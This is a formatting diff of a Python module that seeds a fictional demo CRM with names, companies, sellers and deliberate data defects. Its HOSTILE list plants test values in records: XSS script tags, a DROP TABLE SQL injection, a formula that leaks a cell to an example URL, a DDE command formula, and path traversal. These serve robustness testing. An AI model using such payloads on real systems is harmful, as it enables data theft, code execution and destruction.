@@ -1,6 +1,8 @@
-"""The words of which the demo CRM is made. All people and companies are fictional; a likeness is chance.
+"""The words of which the demo CRM is made. All people and companies are
+fictional; a likeness is chance.
 
-Phone numbers come from ranges that no operator hands out, e-mail domains from those reserved for examples.
+Phone numbers come from ranges that no operator hands out, e-mail domains from
+those reserved for examples.
 """
 
 from __future__ import annotations
@@ -16,78 +18,309 @@ PAST_DAYS: Final = 365
 FICTION: Final = "All people and companies in this demo are fictional."
 
 FIRST_NAMES: Final = (
-    "Aafke", "Anouk", "Bastiaan", "Bente", "Bram", "Carlijn", "Daan", "Esmée", "Fenna", "Floris", "Geertje", "Hanneke",
-    "Ilse", "Joost", "Jurre", "Klaas", "Lieke", "Maarten", "Noor", "Pieter-Jan", "Renée", "Ruben", "Sanne", "Thijs",
-    "Zoë", "Alfred", "Beatrice", "Charlotte", "Dorian", "Edith", "Gareth", "Hazel", "Imogen", "Jasper", "Nigel",
-    "Percy", "Rowena", "Tabitha", "Winston", "Djoke", "Douwe", "Eelkje", "Fedde", "Gjalt", "Hylke", "Jeltsje", "Minke",
-    "Nynke", "Rixt", "Sjoerdtje", "Tjibbe", "Wytske", "Ayşe", "Berkay", "Çağla", "Deniz", "Elif", "Emre", "Gökhan",
-    "Gülşen", "İpek", "Kerem", "Özlem", "Selin", "Şükrü", "Tolga", "Yiğit", "Anoushka", "Clyde", "Dewanand", "Faranaaz",
-    "Gladys", "Hesdy", "Indra", "Kenrick", "Lucretia", "Maikel", "Rishi", "Roché", "Sharmila", "Wonny",
-)  # fmt: skip
+    "Aafke",
+    "Anouk",
+    "Bastiaan",
+    "Bente",
+    "Bram",
+    "Carlijn",
+    "Daan",
+    "Esmée",
+    "Fenna",
+    "Floris",
+    "Geertje",
+    "Hanneke",
+    "Ilse",
+    "Joost",
+    "Jurre",
+    "Klaas",
+    "Lieke",
+    "Maarten",
+    "Noor",
+    "Pieter-Jan",
+    "Renée",
+    "Ruben",
+    "Sanne",
+    "Thijs",
+    "Zoë",
+    "Alfred",
+    "Beatrice",
+    "Charlotte",
+    "Dorian",
+    "Edith",
+    "Gareth",
+    "Hazel",
+    "Imogen",
+    "Jasper",
+    "Nigel",
+    "Percy",
+    "Rowena",
+    "Tabitha",
+    "Winston",
+    "Djoke",
+    "Douwe",
+    "Eelkje",
+    "Fedde",
+    "Gjalt",
+    "Hylke",
+    "Jeltsje",
+    "Minke",
+    "Nynke",
+    "Rixt",
+    "Sjoerdtje",
+    "Tjibbe",
+    "Wytske",
+    "Ayşe",
+    "Berkay",
+    "Çağla",
+    "Deniz",
+    "Elif",
+    "Emre",
+    "Gökhan",
+    "Gülşen",
+    "İpek",
+    "Kerem",
+    "Özlem",
+    "Selin",
+    "Şükrü",
+    "Tolga",
+    "Yiğit",
+    "Anoushka",
+    "Clyde",
+    "Dewanand",
+    "Faranaaz",
+    "Gladys",
+    "Hesdy",
+    "Indra",
+    "Kenrick",
+    "Lucretia",
+    "Maikel",
+    "Rishi",
+    "Roché",
+    "Sharmila",
+    "Wonny",
+)
 
 LAST_NAMES: Final = (
-    "van der Zandvliet", "Molenbreek", "Kortenaerd", "Hazeldonck", "Windgaarde", "de Kerkuyl", "van 't Lindhout",
-    "Bovenmaat", "ter Weidehof", "Duinsteeg", "Grachtenburgh", "Vlierwater", "op den Heuvelrand", "Roodeschaap",
-    "Ashcombe", "Wetherfold", "Thornbury-Lane", "Fernsby-Holt", "O'Merrowby", "Quillstone", "Larkmead", "Pemberwick",
-    "Sjoerdinga", "Wiersmastra", "Tjallemaer", "Hoekstrama", "Ypkemastra", "Bûterwei", "Reitsingastra", "Skûtemaker",
-    "Akçataşlı", "Demirbulut", "Karakuşoğlu", "Yelkenay", "Gündoğduer", "Taşpınarlı", "Özgürdal", "Çamlıdereli",
-    "Ramdhanlalsing", "Soekhpersadien", "Wongsodimejo", "Pinasbergh", "Kalisingh-Roos", "Bhagwankoemar",
-    "Vreedzaamheid", "Landveldhoff",
-)  # fmt: skip
+    "van der Zandvliet",
+    "Molenbreek",
+    "Kortenaerd",
+    "Hazeldonck",
+    "Windgaarde",
+    "de Kerkuyl",
+    "van 't Lindhout",
+    "Bovenmaat",
+    "ter Weidehof",
+    "Duinsteeg",
+    "Grachtenburgh",
+    "Vlierwater",
+    "op den Heuvelrand",
+    "Roodeschaap",
+    "Ashcombe",
+    "Wetherfold",
+    "Thornbury-Lane",
+    "Fernsby-Holt",
+    "O'Merrowby",
+    "Quillstone",
+    "Larkmead",
+    "Pemberwick",
+    "Sjoerdinga",
+    "Wiersmastra",
+    "Tjallemaer",
+    "Hoekstrama",
+    "Ypkemastra",
+    "Bûterwei",
+    "Reitsingastra",
+    "Skûtemaker",
+    "Akçataşlı",
+    "Demirbulut",
+    "Karakuşoğlu",
+    "Yelkenay",
+    "Gündoğduer",
+    "Taşpınarlı",
+    "Özgürdal",
+    "Çamlıdereli",
+    "Ramdhanlalsing",
+    "Soekhpersadien",
+    "Wongsodimejo",
+    "Pinasbergh",
+    "Kalisingh-Roos",
+    "Bhagwankoemar",
+    "Vreedzaamheid",
+    "Landveldhoff",
+)
 
 COMPANY_STEMS: Final = (
-    "Veldmark", "Noordkroon", "Zilverkaap", "Waddenlicht", "Kroonwerf", "Blauwvoet", "Hertenkamp", "Oostermeent",
-    "Brandvuur", "Lisserwiel", "Tolbrug", "Klaverpolder", "Stormvogel", "Rietkraag", "Duizendpoot", "Maanzaad",
-    "Copperfinch", "Marlowgate", "Ninefold", "Saltmarsh", "Hollybank", "Tidewell", "Greywether", "Larkspire",
-    "It Fryske Each", "De Griene Greide", "Skierstins", "Simmerwyn", "Altınköprü", "Mavi Deniz", "Yıldızhan",
-    "Kotomisi", "Faya Lobi", "Switi Watra", "Marowijn", "Château Brûlé", "Überfracht", "Señal Norte", "Łąkowa",
-)  # fmt: skip
+    "Veldmark",
+    "Noordkroon",
+    "Zilverkaap",
+    "Waddenlicht",
+    "Kroonwerf",
+    "Blauwvoet",
+    "Hertenkamp",
+    "Oostermeent",
+    "Brandvuur",
+    "Lisserwiel",
+    "Tolbrug",
+    "Klaverpolder",
+    "Stormvogel",
+    "Rietkraag",
+    "Duizendpoot",
+    "Maanzaad",
+    "Copperfinch",
+    "Marlowgate",
+    "Ninefold",
+    "Saltmarsh",
+    "Hollybank",
+    "Tidewell",
+    "Greywether",
+    "Larkspire",
+    "It Fryske Each",
+    "De Griene Greide",
+    "Skierstins",
+    "Simmerwyn",
+    "Altınköprü",
+    "Mavi Deniz",
+    "Yıldızhan",
+    "Kotomisi",
+    "Faya Lobi",
+    "Switi Watra",
+    "Marowijn",
+    "Château Brûlé",
+    "Überfracht",
+    "Señal Norte",
+    "Łąkowa",
+)
 
 COMPANY_TRADES: Final = (
-    "Techniek", "Logistiek", "Bouw", "Installaties", "Transport", "Foods", "Adviseurs", "Zorg", "Textiel", "Software",
-    "Kwekerij", "Verpakkingen", "Engineering", "Interieur", "Zuivel", "Drukwerk", "Marine", "Events", "Metaal",
-)  # fmt: skip
+    "Techniek",
+    "Logistiek",
+    "Bouw",
+    "Installaties",
+    "Transport",
+    "Foods",
+    "Adviseurs",
+    "Zorg",
+    "Textiel",
+    "Software",
+    "Kwekerij",
+    "Verpakkingen",
+    "Engineering",
+    "Interieur",
+    "Zuivel",
+    "Drukwerk",
+    "Marine",
+    "Events",
+    "Metaal",
+)
 
-COMPANY_FORMS: Final = ("B.V.", "B.V.", "B.V.", "N.V.", "V.O.F.", "Ltd", "& Zn.", "Groep", "Coöperatie U.A.", "A.Ş.")
+COMPANY_FORMS: Final = (
+    "B.V.",
+    "B.V.",
+    "B.V.",
+    "N.V.",
+    "V.O.F.",
+    "Ltd",
+    "& Zn.",
+    "Groep",
+    "Coöperatie U.A.",
+    "A.Ş.",
+)
 
 CITIES: Final = (
-    "Leeuwarden", "Sneek", "Groningen", "Zwolle", "Utrecht", "Rotterdam", "Almere", "Eindhoven", "'s-Hertogenbosch",
-    "Middelburg", "Paramaribo", "İzmir", "York",
-)  # fmt: skip
+    "Leeuwarden",
+    "Sneek",
+    "Groningen",
+    "Zwolle",
+    "Utrecht",
+    "Rotterdam",
+    "Almere",
+    "Eindhoven",
+    "'s-Hertogenbosch",
+    "Middelburg",
+    "Paramaribo",
+    "İzmir",
+    "York",
+)
 
 SUBJECTS: Final = (
-    "Intake", "Introduction", "Quarterly review", "Offer discussed", "Offerte bespreken", "Site visit", "Demo",
-    "Contract renewal", "Evaluatie", "Price talk", "Kick-off", "Lunch", "Complaint follow-up", "Jaargesprek",
-)  # fmt: skip
+    "Intake",
+    "Introduction",
+    "Quarterly review",
+    "Offer discussed",
+    "Offerte bespreken",
+    "Site visit",
+    "Demo",
+    "Contract renewal",
+    "Evaluatie",
+    "Price talk",
+    "Kick-off",
+    "Lunch",
+    "Complaint follow-up",
+    "Jaargesprek",
+)
 
 RESULTS: Final = (
-    "Wants an offer", "Will decide after the board meeting", "No budget this year", "Signed on the spot",
-    "Asked for two references", "Wil eerst een proefplaatsing", "Happy with the delivery",
+    "Wants an offer",
+    "Will decide after the board meeting",
+    "No budget this year",
+    "Signed on the spot",
+    "Asked for two references",
+    "Wil eerst een proefplaatsing",
+    "Happy with the delivery",
     "Compares us with two others",
-    "Price is too high, scope is fine", "Belt zelf terug", "New contact person from next month",
+    "Price is too high, scope is fine",
+    "Belt zelf terug",
+    "New contact person from next month",
     "Needs a smaller pilot",
-)  # fmt: skip
+)
 
 NEXT_STEPS: Final = (
-    "offer by Friday", "call again in two weeks", "send the brochure", "nothing to do", "plan a site visit",
-    "offerte aanpassen", "ask legal", "meet the director",
-)  # fmt: skip
+    "offer by Friday",
+    "call again in two weeks",
+    "send the brochure",
+    "nothing to do",
+    "plan a site visit",
+    "offerte aanpassen",
+    "ask legal",
+    "meet the director",
+)
 
 CALL_SUBJECTS: Final = (
-    "Called back", "Appointment made", "Wrong number", "Voicemail", "Question about the invoice", "Offer explained",
-    "Terugbelverzoek", "No answer", "Delivery date", "Introduction",
-)  # fmt: skip
+    "Called back",
+    "Appointment made",
+    "Wrong number",
+    "Voicemail",
+    "Question about the invoice",
+    "Offer explained",
+    "Terugbelverzoek",
+    "No answer",
+    "Delivery date",
+    "Introduction",
+)
 
 DEAL_NAMES: Final = (
-    "Annual contract", "Pilot", "Expansion", "Renewal", "Service agreement", "First order", "Licence", "Onderhoud",
-    "Maatwerk", "Training days", "Replacement", "Framework contract",
-)  # fmt: skip
+    "Annual contract",
+    "Pilot",
+    "Expansion",
+    "Renewal",
+    "Service agreement",
+    "First order",
+    "Licence",
+    "Onderhoud",
+    "Maatwerk",
+    "Training days",
+    "Replacement",
+    "Framework contract",
+)
 
 BLANKS: Final = (None, None, "", "", "   ", "\u00a0", "\u3000")
 """What people leave in a text field: nothing, in five spellings. All of them mean *missing*."""
 
 LONG_TEXT: Final = ("Minutes, pasted whole. " * 2_000)[:40_000]
-"""A meeting's result of 40,000 characters, longer than a cell of a spreadsheet can hold (32,767)."""
+"""A meeting's result of 40,000 characters, longer than a cell of a
+spreadsheet can hold (32,767).
+"""
 
 HOSTILE: Final = (
     ("contacts", "last_name", "<script>alert('last name')</script>"),
@@ -98,14 +331,26 @@ HOSTILE: Final = (
     ("contacts", "last_name", "@SUM(A1:A9)"),
     ("contacts", "last_name", 'O\'Brienstra "Bob"'),
     ("contacts", "first_name", "\u202eannaS"),  # an override of the writing direction
-    ("contacts", "last_name", "\u0639\u0644\u064a \u0627\u0644\u0645\u0635\u0646\u0648\u0639"),  # Arabic
-    ("contacts", "first_name", "Zoe\u0308"),  # e and a combining diaeresis: equal to look at, other code points
+    (
+        "contacts",
+        "last_name",
+        "\u0639\u0644\u064a \u0627\u0644\u0645\u0635\u0646\u0648\u0639",
+    ),  # Arabic
+    (
+        "contacts",
+        "first_name",
+        "Zoe\u0308",
+    ),  # e and a combining diaeresis: equal to look at, other code points
     ("contacts", "last_name", "Robert'); DROP TABLE clients;--"),
     ("clients", "name", '=HYPERLINK("https://demo-crm.example/?leak="&A1,"click")'),
     ("clients", "name", "../../etc/Bakkerij"),
     ("clients", "name", "<b>Vet & Zn.</b> </td></tr></table>"),
     ("clients", "name", "\u05d7\u05d1\u05e8\u05d4 \u05d1\u05d3\u05d5\u05d9\u05d4"),  # Hebrew
-    ("clients", "name", "Taart & Co \U0001f382\U0001f468\u200d\U0001f373"),  # emoji, one joined of three
+    (
+        "clients",
+        "name",
+        "Taart & Co \U0001f382\U0001f468\u200d\U0001f373",
+    ),  # emoji, one joined of three
     ("clients", "name", "{{ 7 * 7 }} {% raw %} ${x} %s"),
     ("meetings", "subject", "Line\x0btabbed"),  # a control character that XML forbids
     ("meetings", "subject", "=cmd|' /C calc'!A0"),
@@ -119,7 +364,13 @@ HOSTILE: Final = (
 )
 """(table, column, value): each is planted in one live record of an active manager."""
 
-BAD_EMAILS: Final = ("{0}.example.com", "{0}@@mail.example", "{0}@", "{0} at mail.example", "@mail.example")
+BAD_EMAILS: Final = (
+    "{0}.example.com",
+    "{0}@@mail.example",
+    "{0}@",
+    "{0} at mail.example",
+    "@mail.example",
+)
 """Shapes of addresses that no mail reaches."""
 
 
@@ -127,14 +378,20 @@ BAD_EMAILS: Final = ("{0}.example.com", "{0}@@mail.example", "{0}@", "{0} at mai
 def slug(text: str) -> str:
     """The text as part of an address: a-z, 0-9 and hyphens."""
     plain = unicodedata.normalize("NFKD", text.lower().replace("ı", "i").replace("ł", "l"))
-    plain = "".join(c if c.isascii() and c.isalnum() else "-" for c in plain if not unicodedata.combining(c))
+    plain = "".join(
+        c if c.isascii() and c.isalnum() else "-" for c in plain if not unicodedata.combining(c)
+    )
     return "-".join(part for part in plain.split("-") if part) or "x"
 
 
 def phone(rng: random.Random) -> str:
     """A number that is nobody's."""
     number = rng.randrange(10_000)
-    kinds = (f"+31 6 0000 {number:04d}", f"+1 202 555 01{number % 100:02d}", f"+44 20 7946 0{number % 1000:03d}")
+    kinds = (
+        f"+31 6 0000 {number:04d}",
+        f"+1 202 555 01{number % 100:02d}",
+        f"+44 20 7946 0{number % 1000:03d}",
+    )
     return rng.choices(kinds, (8, 1, 1))[0]
 
 
@@ -146,7 +403,9 @@ def person(rng: random.Random, domain: str) -> dict[str, str | None]:
         "first_name": first,
         "last_name": last,
         "phone": phone(rng) if reach != "email" else rng.choice(BLANKS),
-        "email": f"{slug(first)}.{slug(last)}@{domain}" if reach != "phone" else rng.choice(BLANKS),
+        "email": f"{slug(first)}.{slug(last)}@{domain}"
+        if reach != "phone"
+        else rng.choice(BLANKS),
     }
 
 
@@ -176,13 +435,26 @@ TABLES: Final[Mapping[str, str]] = {
     "changes": "id TEXT PRIMARY KEY, table_name TEXT, record_id TEXT, field TEXT, old_value TEXT, new_value TEXT,"
     " user_id TEXT, changed_at TEXT",
 }
-"""Table -> columns. References are plain columns: like most CRMs, this one lets them point at nothing."""
+"""Table -> columns. References are plain columns: like most CRMs, this one
+lets them point at nothing.
+"""
 
 INDEXES: Final = (
-    "clients(owner_id)", "contacts(owner_id)", "contacts(client_id)", "leads(owner_id)", "meetings(owner_id)",
-    "meetings(client_id)", "meetings(starts_at)", "meeting_contacts(meeting_id)", "calls(owner_id)",
-    "calls(starts_at)", "deals(owner_id)", "deals(client_id)", "deals(closed_on)", "changes(table_name, record_id)",
-)  # fmt: skip
+    "clients(owner_id)",
+    "contacts(owner_id)",
+    "contacts(client_id)",
+    "leads(owner_id)",
+    "meetings(owner_id)",
+    "meetings(client_id)",
+    "meetings(starts_at)",
+    "meeting_contacts(meeting_id)",
+    "calls(owner_id)",
+    "calls(starts_at)",
+    "deals(owner_id)",
+    "deals(client_id)",
+    "deals(closed_on)",
+    "changes(table_name, record_id)",
+)
 
 AUDIT_YAML: Final = f"""\
 # The audit of the demo CRM beside this file. {FICTION}
@@ -242,25 +514,67 @@ class Seller:
 
 
 SELLERS: Final = (
-    Seller("u01", "Femke", "Hazeldonck", "t1", 0.12, 1.0, 6, 1.0, 19, 1),  # diligent, leads North
-    Seller("u02", "Daan", "van der Zandvliet", "t1", 12.0, 1.1, 8, 1.2, 24, 3),  # the star who fills in half of it
+    Seller(
+        "u01", "Femke", "Hazeldonck", "t1", 0.12, 1.0, 6, 1.0, 19, 1
+    ),  # diligent, leads North
+    Seller(
+        "u02", "Daan", "van der Zandvliet", "t1", 12.0, 1.1, 8, 1.2, 24, 3
+    ),  # the star who fills in half of it
     Seller("u03", "Özlem", "Akçataşlı", "t1", 1.2, 1.0, 5, 0.9, 17, 2),
-    Seller("u04", "Gjalt", "Wiersmastra", "t1", 2.6, 1.1, 4, 0.7, 58, 31),  # opens everything and closes nothing
+    Seller(
+        "u04", "Gjalt", "Wiersmastra", "t1", 2.6, 1.1, 4, 0.7, 58, 31
+    ),  # opens everything and closes nothing
     Seller("u05", "Rishi", "Ramdhanlalsing", "t1", 1.7, 0.9, 6, 1.1, 21, 2),
     Seller("u06", "Imogen", "Thornbury-Lane", "t1", 0.9, 1.0, 5, 0.8, 18, 3),
-    Seller("u07", "Bram", "Molenbreek", "t2", 0.5, 0.6, 3, 1.0, 12, 1, planned=False),  # leads South
+    Seller(
+        "u07", "Bram", "Molenbreek", "t2", 0.5, 0.6, 3, 1.0, 12, 1, planned=False
+    ),  # leads South
     Seller("u08", "Nynke", "Sjoerdinga", "t2", 1.4, 1.1, 6, 1.0, 20, 3),
-    Seller("u09", "Maarten", "ter Weidehof", "t2", 3.2, 0.5, 4, 0.5, 22, 6, writes=0.45),  # silent on most days
+    Seller(
+        "u09", "Maarten", "ter Weidehof", "t2", 3.2, 0.5, 4, 0.5, 22, 6, writes=0.45
+    ),  # silent on most days
     Seller("u10", "Zoë", "Pinasbergh", "t2", 0.6, 1.0, 5, 1.1, 16, 1),
     Seller("u11", "Kerem", "Demirbulut", "t2", 2.2, 1.0, 6, 0.9, 23, 4),
-    Seller("u12", "Lieke", "de Kerkuyl", "t2", 1.5, 0.8, 2, 1.0, 9, 0, joined=49, planned=False),  # the newcomer
-    Seller("u13", "Winston", "Ashcombe", "t1", 3.2, 0.8, 5, 0.0, 14, 12, left=42, planned=False, state="inactive"),
-    Seller("u14", "Hylke", "Duinsteeg", "t2", 2.8, 0.6, 4, 0.0, 6, 6, left=240, planned=False, state="deleted"),
+    Seller(
+        "u12", "Lieke", "de Kerkuyl", "t2", 1.5, 0.8, 2, 1.0, 9, 0, joined=49, planned=False
+    ),  # the newcomer
+    Seller(
+        "u13",
+        "Winston",
+        "Ashcombe",
+        "t1",
+        3.2,
+        0.8,
+        5,
+        0.0,
+        14,
+        12,
+        left=42,
+        planned=False,
+        state="inactive",
+    ),
+    Seller(
+        "u14",
+        "Hylke",
+        "Duinsteeg",
+        "t2",
+        2.8,
+        0.6,
+        4,
+        0.0,
+        6,
+        6,
+        left=240,
+        planned=False,
+        state="deleted",
+    ),
 )
 STAR, SILENT, NEWCOMER, LEAVER, SYSTEM = "u02", "u09", "u12", "u13", "u90"
 TEAMS: Final = (("t1", "North", "u01"), ("t2", "South", "u07"))
 ACTIVE: Final = frozenset(seller.id for seller in SELLERS if seller.state == "active")
-LOST_OWNERS: Final = (None,) * 12 + ("u77",) * 4 + ("u88",) * 3  # nobody, and users who are in no table
+LOST_OWNERS: Final = (
+    (None,) * 12 + ("u77",) * 4 + ("u88",) * 3
+)  # nobody, and users who are in no table
 
 _HELD: Final = ("held",)
 OPEN: Final = ("new", "proposal", "negotiation")
@@ -284,4 +598,9 @@ SPOILS: Final[tuple[tuple[str, tuple[str, ...], float, tuple[str, ...]], ...]] =
 )
 """(table, fields left empty together, share at carelessness 1, only in these states)."""
 NO_CONTACT: Final = 0.06  # share of meetings without anybody, at carelessness 1
-TEXTLESS: Final = ("client_id", "contact_id", "amount_cents", "closed_on")  # empty is NULL, never a blank text
+TEXTLESS: Final = (
+    "client_id",
+    "contact_id",
+    "amount_cents",
+    "closed_on",
+)  # empty is NULL, never a blank text
